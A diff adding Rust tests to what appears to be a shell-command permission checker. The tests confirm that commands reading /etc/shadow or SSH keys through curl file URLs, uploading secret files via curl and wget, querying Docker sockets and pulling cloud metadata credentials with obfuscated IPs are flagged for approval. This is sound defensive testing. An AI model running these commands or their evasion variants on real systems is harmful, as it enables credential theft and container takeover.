@@ -513,3 +513,173 @@ fn writes_hidden_in_options_and_operands() {
         "harmless options",
     );
 }
+
+#[test]
+fn curl_reads_files_through_urls_and_at_values() {
+    let urls: Vec<String> = [
+        "file:///etc/%73hadow",
+        "file:///etc/%73%68%61%64%6f%77",
+        "file:///%65tc/shadow",
+        "FILE:///etc/shadow",
+        "file://localhost/etc/shadow",
+        "file:/etc/shadow",
+        "file:///etc/{shadow,passwd}",
+        "file:///etc/shado[v-x]",
+        "file:///root/.ssh/id_[a-z]sa",
+        "file:///etc/ssl/private/{a,b}.key",
+    ]
+    .iter()
+    .map(|u| format!("curl -s '{u}'"))
+    .collect();
+    check_all(urls, asks, "file URLs");
+    let at: Vec<String> = [
+        "-w @{}",
+        "--write-out @{}",
+        "--url-query @{}",
+        "--url-query k@{}",
+        "--url-query +k@{}",
+        "--data-urlencode k@{}",
+        "--data-urlencode @{}",
+        "-d @{}",
+        "--data-binary @{}",
+        "--json @{}",
+        "-F k=@{}",
+        "-F 'k=<{}'",
+        "-T {}",
+        "-K {}",
+        "--config {}",
+        "-H @{}",
+    ]
+    .iter()
+    .flat_map(|t| {
+        SECRETS
+            .iter()
+            .map(move |f| format!("curl {} https://example.com/x", t.replace("{}", f)))
+    })
+    .chain(SECRETS.iter().flat_map(|f| {
+        [
+            format!("wget --post-file={f} https://example.com"),
+            format!("wget -i {f}"),
+            format!("wget --body-file={f} --method=PUT https://example.com"),
+        ]
+    }))
+    .collect();
+    check_all(at, asks, "@FILE values");
+    check_all(
+        [
+            "curl -s https://example.com/x",
+            "curl -w '%{http_code}' -o /dev/null -s https://example.com",
+            "curl --url-query 'a=b@c' https://example.com",
+            "curl -s file:///etc/hostname",
+        ]
+        .map(String::from),
+        read_only,
+        "ordinary curl",
+    );
+}
+
+#[test]
+fn docker_api_requests_ask_unless_listings() {
+    let sockets = [
+        "--unix-socket /var/run/docker.sock",
+        "--unix-socket /run/docker.sock",
+        "--unix-socket /run/podman/podman.sock",
+        "--unix-socket /run/user/1000/podman/podman.sock",
+    ];
+    let bad: Vec<String> = sockets
+        .iter()
+        .flat_map(|s| {
+            [
+                format!("curl {s} http://localhost/containers/abc/json"),
+                format!("curl {s} http://localhost/v1.43/containers/abc/json"),
+                format!("curl {s} http://localhost/secrets"),
+                format!("curl {s} http://localhost/configs"),
+                format!("curl {s} http://localhost/services"),
+                format!("curl {s} 'http://localhost/containers/abc/archive?path=/etc/shadow'"),
+                format!("curl {s} http://localhost/containers/abc/export"),
+                format!("curl {s} -X POST http://localhost/containers/abc/start"),
+                format!("curl {s} -XPOST http://d/containers/create -d '{{}}'"),
+                format!("curl {s} -d '{{}}' http://d/exec/x/start"),
+                format!("curl {s} -X DELETE http://localhost/containers/abc"),
+            ]
+        })
+        .chain([
+            "curl http://127.0.0.1:2375/containers/abc/json".to_owned(),
+            "curl -X POST http://10.0.0.5:2375/containers/create".to_owned(),
+        ])
+        .collect();
+    check_all(bad, asks, "Docker API");
+    let good: Vec<String> = sockets
+        .iter()
+        .flat_map(|s| {
+            [
+                format!("curl -s {s} http://localhost/containers/json"),
+                format!("curl -s {s} http://localhost/v1.43/containers/json?all=1"),
+                format!("curl -s {s} http://localhost/_ping"),
+                format!("curl -s {s} http://localhost/info"),
+                format!("curl -s {s} http://localhost/images/json"),
+            ]
+        })
+        .collect();
+    check_all(good, read_only, "Docker API listings");
+}
+
+#[test]
+fn cloud_metadata_credentials_ask() {
+    let hosts = [
+        "169.254.169.254",
+        "2852039166",
+        "0xa9fea9fe",
+        "0xA9.0xFE.0xA9.0xFE",
+        "0251.0376.0251.0376",
+        "169.254.43518",
+        "[::ffff:169.254.169.254]",
+        "[::ffff:a9fe:a9fe]",
+        "[fd00:ec2::254]",
+        "169.254.169.254:80",
+        "user@169.254.169.254",
+        "metadata.google.internal",
+        "metadata",
+        "169.254.170.2",
+        "100.100.100.200",
+    ];
+    let paths = [
+        "/latest/meta-data/iam/security-credentials/",
+        "/latest/meta-data/iam/security-credentials/role",
+        "/latest/api/token",
+        "/latest/user-data",
+        "/metadata/identity/oauth2/token?resource=x",
+        "/computeMetadata/v1/instance/service-accounts/default/token",
+        "/computeMetadata/v1/instance/attributes/?recursive=true",
+        "/v2/credentials/abc",
+        "/latest/meta-data/",
+    ];
+    let cmds: Vec<String> = hosts
+        .iter()
+        .flat_map(|h| {
+            paths.iter().flat_map(move |p| {
+                [
+                    format!("curl -s 'http://{h}{p}'"),
+                    format!("wget -qO- 'http://{h}{p}'"),
+                ]
+            })
+        })
+        .chain([
+            "curl -s --resolve x:80:169.254.169.254 http://x/latest/meta-data/iam/security-credentials/"
+                .to_owned(),
+            "curl -s 169.254.169.254/latest/meta-data/iam/security-credentials/".to_owned(),
+        ])
+        .collect();
+    check_all(cmds, asks, "metadata credentials");
+    check_all(
+        [
+            "curl -s http://169.254.169.254/latest/meta-data/instance-id",
+            "curl -s http://169.254.169.254/latest/meta-data/placement/availability-zone",
+            "curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/zone",
+            "curl -s http://169.254.1.1/status",
+        ]
+        .map(String::from),
+        read_only,
+        "metadata facts",
+    );
+}
